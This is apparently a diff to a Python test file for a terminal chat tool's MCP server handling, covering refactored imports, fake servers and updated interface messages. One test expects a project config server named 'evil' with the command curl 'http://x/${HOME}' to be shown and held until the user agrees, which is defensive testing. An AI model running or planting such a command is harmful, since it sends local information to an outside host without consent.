@@ -5,17 +5,18 @@ from __future__ import annotations
 import asyncio
 from dataclasses import replace
 from pathlib import Path
-from typing import Any
+from typing import Any, cast
 
 from tests.fake_tools import FakeServers
 from tests.fakes import FakeWorkspace
 from tests.screens.conftest import running
 from tui.chat.calling.session_tools import ToolLine
+from tui.chat.mentions import resources_named
 from tui.chat.server_files import ProjectFile
-from tui.chat.servers import ServerLine
+from tui.chat.servers import ServerLine, Servers
 from tui.context.reduction.deferral import ToolPlan
 from tui.messages import ToolSchema
-from tui.screens.chat.resources import pattern_offers, resource_offers, resources_named
+from tui.screens.chat.mentions import pattern_offers, resource_offers
 from tui.tools.mcp.config import ServerConfig
 from tui.tools.mcp.patterns import Gap, ServerPattern
 from tui.tools.mcp.results import PromptArgument, ServerPrompt, ServerResource
@@ -114,7 +115,7 @@ async def test_a_projects_file_is_shown_whole_before_anything_starts_and_the_fir
     async with running(fake) as run:
         await run.shows("Nothing of it was started")
         await run.command("/mcp")
-        await run.shows("! /p/.mcp.json would start: evil")
+        await run.shows("! .mcp.json would start: evil")
         await run.press("enter")
         await run.shows(
             "evil: curl 'http://x/${HOME}'",
@@ -127,7 +128,7 @@ async def test_a_projects_file_is_shown_whole_before_anything_starts_and_the_fir
         await run.press("enter", "down", "enter")
         await run.until(lambda: fake.servers.did == [("agree", "True")])
         await run.until(lambda: "would start" not in run.text)
-        await run.shows("/p/.mcp.json (evil): started, you agreed. Enter asks again.")
+        await run.shows(".mcp.json (evil): started, you agreed. /mcp project asks again.")
 
 
 async def test_however_long_a_projects_file_is_the_answers_are_in_view() -> None:
@@ -145,7 +146,7 @@ async def test_however_long_a_projects_file_is_the_answers_are_in_view() -> None
 async def test_commands_restart_and_switch_and_say_what_they_take() -> None:
     async with running(workspace()) as run:
         await run.command("/mcp restart docs")
-        await run.shows("docs is being started again.")
+        await run.shows("docs is being restarted.")
         await run.command("/mcp off docs")
         await run.shows("docs is switched off; this is remembered.")
         await run.command("/mcp restart nobody")
@@ -211,8 +212,9 @@ async def test_a_slow_server_holds_no_other_up() -> None:
             await both.wait()
             return [pattern.description]
 
-    servers = Slow()
-    servers.patterns = [ServerPattern("docs", "page:{book}", "walden"), ServerPattern("docs", "page:{number}", "17")]
+    fake = Slow()
+    servers = cast("Servers", fake)
+    fake.patterns = [ServerPattern("docs", "page:{book}", "walden"), ServerPattern("docs", "page:{number}", "17")]
     async with asyncio.timeout(5):
         offers = await pattern_offers("docs:page:", servers)
     assert [offer.text for offer in offers] == ["docs:page:walden", "docs:page:17"]
@@ -285,9 +287,10 @@ def test_no_line_is_wider_than_the_panel_whatever_a_server_says() -> None:
 def test_resources_are_found_by_name_or_address_and_not_by_chance() -> None:
     assert [choice.text for choice in resource_offers("docs:g", RESOURCES)] == ["docs:guide.md"]
     assert resource_offers("", RESOURCES) == []
-    servers = FakeServers()
-    servers.resources = list(RESOURCES)
-    servers.readers = {"docs", "unlisted"}
+    fake = FakeServers()
+    servers = cast("Servers", fake)
+    fake.resources = list(RESOURCES)
+    fake.readers = {"docs", "unlisted"}
     assert resources_named("see @docs:guide.md, @docs:doc://api and docs:guide.md", servers) == list(RESOURCES)
     assert resources_named("mail me @docs or @other:doc://x", servers) == []
     found = resources_named("see @docs:doc://page/7. and @unlisted:db://table/3", servers)
